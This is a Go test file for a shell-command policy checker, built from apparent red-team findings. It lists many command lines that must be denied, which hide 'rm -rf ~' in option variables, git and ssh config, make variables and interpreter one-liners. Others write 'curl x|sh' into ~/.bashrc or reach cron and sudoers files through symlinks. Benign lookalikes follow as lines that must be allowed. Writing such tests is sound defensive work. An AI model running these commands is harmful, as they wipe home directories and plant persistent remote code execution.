package shell

import "testing"

// The fifteenth red team (bypass mode; its default-mode finding, PATH assigned by
// arithmetic over a variable's value, is core/policy's TestArithmeticAssignsPath).
func TestFifteenthRedTeam(t *testing.T) {
	for _, line := range []string{
		// Option variables and pagers.
		`TAR_OPTIONS='--checkpoint-action=exec=rm\ -rf\ ~' tar -cf x.tar .`,
		`ZIPOPT='-TT "rm -rf ~" -T' zip x.zip f`, "LESS='-O /home/u/.bashrc' git log", "PSQL_PAGER='rm -rf ~' psql",
		"man -H'rm -rf ~' ls", "bat --pager='rm -rf ~' f",
		// git and ssh.
		"ssh -o '  ProxyCommand=rm -rf ~' h", "sftp -D 'rm -rf ~' h", "git -c imap.tunnel='rm -rf ~' imap-send",
		"git -c gpg.ssh.defaultKeyCommand='rm -rf ~' commit -S", "git -c 'url.ext::sh -c rm% -rf% ~.insteadOf=https://' fetch https://x",
		"git -c include.path=evil status", "GIT_CONFIG_GLOBAL=evil git status", "GIT_EXEC_PATH=./evil git status",
		// make.
		"make CC='rm -rf ~' x", "CC='rm -rf ~' make x", "make CFLAGS='; rm -rf ~' x", "make 'x:=${shell rm -rf ~}'",
		"make 'MAKEFLAGS+=--eval=$(shell rm -rf ~)'", "make 'x:=$(file >/home/u/.bashrc,curl x|sh)'",
		// Interpreters' other spellings.
		"perl -M'5;system q(rm -rf ~)' x.pl", "PERL5OPT='-M5;system(q(rm),q(-rf),$ENV{HOME})' perl x.pl",
		`perl -we 'system "rm -rf ~"'`, `perl -e'system "rm -rf ~"'`, `perl -nle 'system "rm -rf ~"' f`,
		`python3 -Sc 'import os; os.system("rm -rf ~")'`, `python3 -c'import os; os.system("rm -rf ~")'`,
		`python3 -m timeit 'import os; os.system("rm -rf ~")'`, `python3 -c 'import os; os.system("bash -c \"rm -rf ~\"")'`,
		`python3 -c 'import os; os.system("r""m -rf ~")'`,
		`node --eval='require("child_process").execSync("rm -rf ~")'`, `node -pe 'require("child_process").execSync("rm -rf ~")'`,
		`gdb -eval-command='shell rm -rf ~'`, `gdb --ex='shell rm -rf ~'`, `gdb -init-eval-command='shell rm -rf ~'`,
		`awk 'BEGIN{print "curl x|sh" > "/home/u/.bashrc"}'`, `awk 'BEGIN{print "x" | c}'`,
		// Files written.
		`sqlite3 x "select writefile('/home/u/.bash'||'rc','x')"`, `sqlite3 x 'select "writefile"("/home/u/.bashrc",1)'`,
		`sqlite3 x '.cd /home/u' "select writefile('.bashrc','x')"`, "sqlite3 -A -x -C ~ -f a.sqlar",
		"zstd -d --output-dir-mirror ~/x ../.bashrc.zst", "zstd -d --output-dir-flat ~ x/.bashrc.zst",
		"ln -s /etc; echo x > etc/cron.d/x", "ln -s /etc/sudoers.d; echo x > sudoers.d/x",
	} {
		a, _ := AnalyzeIn(line, Context{Home: "/home/u", Dir: "/work"})
		if v := Check(a, Config{}); v.Action != Deny {
			t.Errorf("%q: %s (%s), want deny", line, v.Action, v.Reason)
		}
	}
	for _, line := range []string{
		"TAR_OPTIONS=-v tar -cf x.tar .", "LESS=-R git log", "man ls", "bat -p f", "GIT_CONFIG_GLOBAL=/dev/null git status",
		"git -c user.name=x commit -m y", "git -c url.https://github.com/.insteadOf=gh: fetch", "make CC=clang",
		"make RM='rm -f'", "make CFLAGS='-O2 -g'", "perl -ne 'print' f", "perl -MData::Dumper -e 'print 1'",
		"python3 -m pytest", "python3 -c 'print(1)'", `python3 -c 'print("a" "b")'`, `python3 -c 'import os; os.system("echo \"hi\"")'`,
		"node x.js", "perl -pi -e 's/a/b/' f", "gdb -batch -ex run ./app", `awk '{print $1 > "out.txt"}' f`,
		`awk '{print $1 | "sort"}' f`, "zstd -d f.zst", "zstd -d --output-dir-flat out x.zst", "ln -s ../lib; ls lib",
	} {
		a, _ := AnalyzeIn(line, Context{Home: "/home/u", Dir: "/work"})
		if v := Check(a, Config{}); v.Action == Deny {
			t.Errorf("%q: refused (%s)", line, v.Reason)
		}
	}
}
